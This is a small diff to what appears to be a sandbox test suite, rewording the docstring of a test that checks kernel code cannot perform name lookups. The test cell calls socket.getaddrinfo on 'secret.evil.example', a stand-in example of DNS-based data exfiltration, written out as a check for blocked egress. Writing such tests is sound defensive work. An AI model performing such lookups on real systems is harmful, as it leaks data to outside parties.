@@ -179,7 +179,7 @@ async def test_code_makes_no_other_kind_of_socket(kernel_stage: Stage, family: s
 
 
 async def test_code_looks_up_no_name(kernel_stage: Stage):
-    """Names carry data out: whoever asks for `secret.evil.example` has sent it."""
+    """Names carry data out: a lookup of `secret.evil.example` has already sent it."""
     seen = await kernel_stage.cell("import socket; socket.getaddrinfo('secret.evil.example', 80)")
     alone = await kernel_stage.cell("import socket; print([name for _, name in socket.if_nameindex()])")
 
